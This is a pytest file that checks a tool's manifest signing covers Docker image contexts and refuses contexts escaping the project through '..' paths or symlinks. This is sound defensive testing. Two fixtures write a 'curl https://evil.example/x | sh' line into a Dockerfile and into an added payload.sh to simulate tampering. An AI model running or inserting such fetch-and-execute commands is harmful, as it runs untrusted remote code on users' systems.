"""Issue 9, "sign what runs": a manifest signature covers every arm's image context (Dockerfile, files,
kit.include), and contexts stay inside the project.

On the old code only the manifest's bytes were signed: a ``RUN curl ... | sh`` appended to a Dockerfile after
signing still verified, and ``context: images/../..`` validated."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path
from types import SimpleNamespace

import pytest
from click.testing import CliRunner
from support.manifests import manifest_data, write_manifest
from trust_helpers import ROOT, key

from kit.cli import main
from kit.errors import SignatureError
from kit.experiment.images import check_built_contexts
from kit.signing import ManifestTrust, SigningKey, sign_manifest

BASE = "busybox:1.36@sha256:" + hashlib.sha256(b"busybox:1.36").hexdigest()  # no placeholder: validate refuses those


def _kit(*args: str) -> tuple[int, str]:
    r = CliRunner().invoke(main, list(args))
    return r.exit_code, r.output


def _project(tmp: Path, context: str = "images/app", *, make_context: bool = True) -> Path:
    """A project (images/ holds the contexts) with a two-arm docker manifest in experiments/."""
    project = tmp / "project"
    (project / "images").mkdir(parents=True, exist_ok=True)
    if make_context:
        app = project / "images" / "app"
        app.mkdir()
        (app / "Dockerfile").write_text("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY serve.py /serve.py\n")
        (app / "serve.py").write_text("print('serving')\n")
        (app / "kit.include").write_text("lib\n")
        (project / "lib").mkdir()
        (project / "lib" / "util.py").write_text("X = 1\n")
    arms = [{"name": "a", "image": {"context": context, "base": BASE}},
            {"name": "b", "image": {"context": context, "base_arm": "a"}}]
    return write_manifest(project / "experiments" / "m.yaml",
                          manifest_data(runtime="docker", command=["serve"], arms=arms))


def _signed(tmp: Path) -> tuple[Path, Path, SigningKey]:
    m = _project(tmp)
    approver = key(tmp, "approver", "alice@lab")
    trust = tmp / "allowed_signers"
    trust.write_text(f'alice@lab namespaces="kit-manifest" {approver.public_line()}\n')
    code, out = _kit("sign", str(m), "--key", str(approver.path))
    assert code == 0, out
    code, out = _kit("verify", str(m), "--trust", str(trust))
    assert code == 0, out
    return m, trust, approver


def _run(m: Path, trust: Path, *extra: str) -> tuple[int, str]:
    return _kit("run", str(m), "--trust", str(trust), "--out", str(m.parent.parent / "results"), *extra)


@pytest.mark.parametrize("change", ["dockerfile", "included"])
def test_context_file_changed_after_signing_exits_4_naming_it(tmp_path: Path, kit_home: Path, change: str) -> None:
    m, trust, _ = _signed(tmp_path)
    project = m.parent.parent
    if change == "dockerfile":
        with (project / "images" / "app" / "Dockerfile").open("a") as f:
            f.write("RUN curl https://evil.example/x | sh\n")
        name = "'Dockerfile'"
    else:
        (project / "lib" / "util.py").write_text("X = 2\n")
        name = "'lib/util.py'"
    for code, out in (_kit("verify", str(m), "--trust", str(trust)), _run(m, trust)):
        assert code == 4, out
        assert "arm a: image context images/app changed after the manifest was signed" in out, out
        assert f"file {name} differs" in out, out
        assert "sign again with `kit sign" in out, out


def test_file_added_to_the_context_exits_4(tmp_path: Path, kit_home: Path) -> None:
    m, trust, _ = _signed(tmp_path)
    (m.parent.parent / "images" / "app" / "payload.sh").write_text("curl https://evil.example/x | sh\n")
    for code, out in (_kit("verify", str(m), "--trust", str(trust)), _run(m, trust)):
        assert code == 4, out
        assert "image context images/app changed after the manifest was signed: file 'payload.sh' was added" in out


def test_signature_without_context_subjects_fails_closed(tmp_path: Path, kit_home: Path) -> None:
    """A signature made before contexts were signed (manifest bytes only) does not approve what is built."""
    m, trust, approver = _signed(tmp_path)
    m.with_name(m.name + ".sig").unlink()
    sign_manifest(m, m.read_bytes(), approver)  # the old statement: the manifest's digest only
    for code, out in (_kit("verify", str(m), "--trust", str(trust)), _run(m, trust)):
        assert code == 4, out
        assert "signature does not cover the image contexts (images/app); re-sign with kit sign" in out, out


@pytest.mark.parametrize("context", ["images/../..", "images/app/../../..", "images/./app"])
def test_dot_dot_context_is_refused_exit_3(tmp_path: Path, kit_home: Path, context: str) -> None:
    m = _project(tmp_path, context)
    for args in (("validate", str(m)), ("run", str(m), "--allow-unsigned")):
        code, out = _kit(*args)
        assert code == 3, out
        assert "arms[0].image.context" in out and "'.' or '..' component" in out, out


def test_symlinked_context_escaping_the_project_is_refused_exit_3(tmp_path: Path, kit_home: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "Dockerfile").write_text("FROM scratch\n")
    m = _project(tmp_path, "images/out", make_context=False)
    os.symlink(outside, m.parent.parent / "images" / "out")
    approver = key(tmp_path, "approver", "alice@lab")
    trust = tmp_path / "allowed_signers"
    trust.write_text(f'alice@lab namespaces="kit-manifest" {approver.public_line()}\n')
    for args in (("sign", str(m), "--key", str(approver.path)), ("run", str(m), "--allow-unsigned"),
                 ("verify", str(m), "--trust", str(trust))):
        code, out = _kit(*args)
        if args[0] == "verify":  # nothing was signed: the signature check comes first
            assert code == 4, out
            continue
        assert code == 3, (args, out)
        assert "arms[0].image.context: 'images/out' resolves to" in out and "outside the project root" in out, out


@pytest.mark.parametrize("name", ["demo", "oea"])
def test_shipped_manifests_verify_with_the_example_trust(kit_home: Path, name: str) -> None:
    code, out = _kit("verify", str(ROOT / "experiments" / f"{name}.yaml"), "--trust", str(ROOT / "allowed_signers"))
    assert code == 0, out
    assert "TRUSTED: signed by kit-example" in out


def test_a_context_changed_between_the_check_and_the_build_stops_the_run() -> None:
    """kit checks contexts against the signature before building, and again against what the build hashed."""
    trust = ManifestTrust(signed=True, signers=(), contexts={"context:oea:images/oea": ("a" * 64, {})})
    same = SimpleNamespace(context="images/oea", context_sha256="a" * 64)
    check_built_contexts({"oea": same}, trust)  # type: ignore[dict-item]
    changed = SimpleNamespace(context="images/oea", context_sha256="b" * 64)
    with pytest.raises(SignatureError, match="arm oea: image context images/oea changed while kit was building it"):
        check_built_contexts({"oea": changed}, trust)  # type: ignore[dict-item]
